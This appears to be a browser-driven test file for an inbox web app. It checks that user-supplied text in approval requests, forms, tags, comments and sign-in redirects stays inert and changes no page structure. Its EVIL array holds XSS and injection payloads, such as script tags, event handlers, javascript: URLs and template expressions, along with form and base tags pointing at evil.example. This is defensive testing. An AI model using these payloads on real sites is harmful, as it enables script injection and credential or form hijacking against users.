// Texts of others in the pages of the inbox: no element, attribute, address or script comes of
// them.
import assert from "node:assert/strict";
import { test } from "node:test";
import { opener } from "../page/browser.mjs";
import { until, useWorker } from "../support/harness.mjs";
import { useBrowser } from "../support/package.mjs";
import { nonceOf, signInThere, visit } from "./requests.mjs";

const worker = useWorker({ vars: { INBOX: "on" } });
const browser = useBrowser();
const open = opener(browser);
const inbox = (session, path = "/inbox", options) =>
  visit(worker.url + path, { session, ...options });
const nonceIn = async (session) => nonceOf(await (await inbox(session)).text());

const EVIL = [
  `"'><script>evil()</script><img src=x onerror=evil()><svg onload=evil()>`,
  `</textarea></title></style></script><iframe srcdoc="<script>evil()</script>">`,
  `javascript:evil()//{{7*7}}\${evil()}<a href=javascript:evil() style=x onclick=evil()>`,
  `<base href=//evil.example><form action=//evil.example><input name=waitpoint_nonce>`,
  `&lt;b&gt;&#60;b&#62;<!--<![CDATA[\u202e\u2066`,
  `' autofocus onfocus=evil() x='" formaction="//evil.example`,
];

/** A token with this text wherever a caller can write one. */
const asks = (text, number, tag) => {
  const short = text.slice(0, 40);
  return {
    tags: [tag, text.slice(0, 100).replace(/,/g, "")],
    idempotencyKey: `${text}${number}${tag}`,
    timeout: "1h",
    approval: {
      title: text.slice(0, 120),
      description: text,
      requestedBy: text.slice(0, 100),
      choices: [{ label: short, style: "primary" }, { label: "Second" }],
      ...(number === 0 && {
        form: {
          type: "object",
          properties: {
            [short]: { type: "string", title: short, description: text, default: text },
            options: {
              type: "string",
              oneOf: [
                { const: text, title: short },
                { const: "b", title: "b" },
              ],
            },
          },
        },
      }),
      ...(number === 1 && {
        approvers: [
          { id: "ann", name: short },
          { id: text.slice(0, 60), name: "Bob" },
        ],
        required: 2,
      }),
    },
  };
};

/** The elements of a page, with what they have but for texts, ids and times. */
const structure = (page) =>
  page.evaluate(() => {
    const varying = new Set(["value", "datetime", "data-now", "data-deadline", "id", "for"]);
    const linked = new Set(["href", "action", "src", "formaction", "srcdoc", "style"]);
    return [...document.querySelectorAll("*")].map((element) => {
      const attributes = [...element.attributes].filter(({ name }) => !varying.has(name));
      const shown = attributes.map(({ name, value }) =>
        linked.has(name) ? `${name}=${value.replace(/waitpoint_\w+/, "ID").split("?")[0]}` : name,
      );
      return `${element.localName} ${shown.sort().join(" ")}`;
    });
  });

/** What the same pages look like without such texts. */
let harmless;

for (const [n, text] of EVIL.entries()) {
  test(`a text of others stays a text: ${text.slice(0, 30)}`, async () => {
    const page = await open(`${worker.url}/inbox/sign-in`);
    const session = await signInThere(page);
    const said = [];
    const asked = [];
    page.on("console", (message) => {
      if (/error|warning/.test(message.type())) said.push(message.text());
    });
    page.on("dialog", (dialog) => dialog.dismiss().then(() => said.push("a dialog")));
    page.on("request", (request) => asked.push(request.url()));
    await page.exposeFunction("evil", () => said.push("evil() was called"));
    const nonce = await nonceIn(session);
    const submit = (path, fields) =>
      inbox(session, path, { form: { waitpoint_nonce: nonce, ...fields } });

    /** What the pages of three tokens with this text look like, in each of their states. */
    const seen = async (text, tag) => {
      const tokens = await Promise.all(
        [0, 1, 2, 3].map((number) => worker.create(asks(text, number, tag))),
      );
      const [formed, voted, decided, withdrawn] = tokens;
      const found = {};
      const look = async (name, path, shows = true) => {
        await page.goto(worker.url + path);
        found[name] = await structure(page);
        const content = await page.locator("body").textContent();
        assert.equal(content.includes(text.slice(0, 20)), shows, `${name} shows the text`);
      };
      const listed = async (query, count) => {
        const path = `/inbox?${new URLSearchParams({ tag, ...query })}`;
        const rows = (html) => html.match(/<time datetime/g)?.length ?? 0;
        await until(
          async () => rows(await (await inbox(session, path)).text()),
          (times) => times >= count,
        );
        return path;
      };
      await look("waiting", await listed({}, 8));
      await look(
        "searched",
        `/inbox?${new URLSearchParams({ tag: text, text, view: "decided" })}`,
        false,
      );
      await look("form", `/inbox/${formed.id}`);
      await look("votes", `/inbox/${voted.id}`);
      // As nobody who is signed in.
      const cookies = await page.context().cookies();
      await page.context().clearCookies();
      const next = encodeURIComponent(`/inbox?text=${encodeURIComponent(text)}`);
      await look("sign-in", `/inbox/sign-in?next=${next}`, false);
      await look("another next", `/inbox/sign-in?next=${encodeURIComponent(text)}`, false);
      await page.context().addCookies(cookies);

      // The summary, and then the outcomes, of those that were marked.
      await page.goto(`${worker.url}/inbox?${new URLSearchParams({ tag })}`);
      for (const { id } of [decided, withdrawn]) await page.locator(`[id="m-${id}"]`).check();
      await page.locator("#marked .act button").click();
      await page.waitForURL("**/inbox/bulk");
      found.summary = await structure(page);
      await page.locator("textarea[name=comment]").fill(text);
      await page.locator("button[name=decide]").first().click();
      await page.locator(".counts").waitFor();
      found.outcomes = await structure(page);
      assert.equal((await worker.retrieve(decided.id)).completedBy, "inbox");
      await look("decided", `/inbox/${decided.id}`);

      const path = `/inbox/${formed.id}`;
      assert.equal((await submit(path, { action: "withdraw", reason: text })).status, 303);
      await look("withdrawn", path);
      await look("a list of the withdrawn", await listed({ view: "withdrawn" }, 2));
      return found;
    };
    const evil = await seen(text, `evil-${n}`);
    assert.deepEqual(said, []);
    assert.deepEqual(page.errors, []);
    const foreign = asked.filter((url) => !url.startsWith(worker.url) && url !== "data:,");
    assert.deepEqual(foreign, []);
    harmless ??= await seen("x".repeat(100), "harmless");
    for (const [name, elements] of Object.entries(harmless)) {
      assert.deepEqual(evil[name], elements, name);
      assert.ok(elements.length > 10, name);
    }
    await page.context().close();
  });
}
